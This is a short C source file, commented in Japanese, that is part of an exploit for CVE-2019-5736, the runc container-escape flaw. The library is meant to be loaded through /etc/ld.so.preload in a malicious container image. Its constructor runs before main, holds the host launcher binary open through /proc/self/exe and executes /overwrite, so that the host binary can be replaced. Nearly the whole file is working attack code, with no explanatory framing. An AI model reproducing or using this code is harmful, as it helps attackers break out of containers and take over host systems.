/*
 * preload.c - 悪意のあるイメージの /etc/ld.so.preload が読ませるライブラリ
 *
 * コンテナ内で /proc/self/exe (ホストのランチャー) を実行すると、
 * 動くのはホストのプログラムだが、ライブラリはイメージのもの。
 * main より先にここへ来る。ランチャーのファイルを開いたまま、
 * /overwrite になる。CVE-2019-5736
 */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
    if (access("/overwrite", X_OK) == -1)
        return; /* ホストの側では何もしない */
    if (dup2(open("/proc/self/exe", O_RDONLY), 9) == 9)
        execl("/overwrite", "/overwrite", (char *)0);
}
